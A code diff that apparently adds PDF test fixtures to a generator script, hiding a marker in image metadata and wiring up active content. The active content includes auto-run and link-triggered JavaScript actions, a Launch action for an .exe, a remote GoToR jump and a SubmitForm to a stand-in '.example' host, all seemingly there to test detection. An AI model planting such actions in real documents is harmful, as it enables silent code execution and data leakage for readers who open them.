@@ -16,6 +16,14 @@ def photo(filters, more=b"", pack=bytes):
     return [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
             b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 90 60]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>", stream(b"", b"90 0 0 60 0 0 cm /I Do"),
             stream(b"/Type/XObject/Subtype/Image/Width 90/Height 60/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter" + filters + more, pack(j)), XMP]
+JFIF = b"JFIF\0\1\1\0\0\1\0\1\2\2"
+def among_words(pack=lambda words: stream(b"", words)):
+    j = segment(segment(jpeg(), 0xe1, b"Exif\0\0MM\0*GPS" + M), 0xfe, M) + M
+    words = b"q 90 0 0 60 0 0 cm BI /W 90 /H 60 /CS /RGB /BPC 8 /F /DCT\nID " + j + b"\nEI Q BT /F 24 Tf 60 700 Td (Loonstrook) Tj ET"
+    return [o if n != 3 else pack(words) for n, o in enumerate(page())]
+def on_page(more): return [o.replace(b"/Type/Page/Parent", b"/Type/Page/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]" + more + b">>]/Parent") for o in page()]
+RUN = b"<</S/JavaScript/JS(" + M + b")>>"
+ELSEWHERE = b"<</S/Launch/F(C:/" + M + b".exe)>>"
 def packed():
     """Packed with the rest, and reached from nowhere."""
     objects = page(); n = len(objects); out = b"%PDF-1.5\n"; places = []
@@ -41,6 +49,13 @@ pdfs = {
     "photo": pdf(photo(b"/DCTDecode")), "photo-pressed": pdf(photo(b"[/FlateDecode/DCTDecode]", pack=zlib.compress)),
     "photo-letters": pdf(photo(b"[/ASCIIHexDecode/FlateDecode/DCTDecode]", pack=lambda j: zlib.compress(j).hex().encode() + b">")),
     "photo-array": pdf(photo(b"[/DCTDecode]", b"/Metadata 6 0 R")),
+    "among-words": pdf(among_words()), "among-words-packed": pdf(among_words(lambda words: stream(b"/Filter/FlateDecode", zlib.compress(words)))),
+    "photo-small-copy": pdf(photo(b"/DCTDecode", pack=lambda j: segment(j, 0xe0, JFIF + M))),
+    "runs-open": pdf(page(catalog=b"/OpenAction" + RUN)), "runs-named": pdf(page(catalog=b"/Names<</JavaScript<</Names[(a)" + RUN + b"]>>>>")),
+    "runs-page": pdf(of_page(b"/AA<</O" + RUN + b">>")), "runs-link": pdf(on_page(b"/A" + RUN)),
+    "runs-next": pdf(on_page(b"/A<</S/Named/N/NextPage/Next[" + RUN + ELSEWHERE + b"]>>")),
+    "elsewhere": pdf(on_page(b"/A" + ELSEWHERE)), "elsewhere-file": pdf(on_page(b"/A<</S/GoToR/F(/home/" + M + b")/D[0/Fit]>>")),
+    "sends": pdf(on_page(b"/A<</S/SubmitForm/F(https://" + M + b".example)>>")),
     "no-table": pdf(page(more=(INFO,)), b"/Info 6 0 R").replace(b"startxref\n", b"startxref\n9"),
     "wrong-length": pdf(page(more=(INFO,)), b"/Info 6 0 R").replace(b"/Length ", b"/Length 1"),
     "line-ends": pdf(page(more=(INFO,)), b"/Info 6 0 R").replace(b"\n", b"\r\n"),
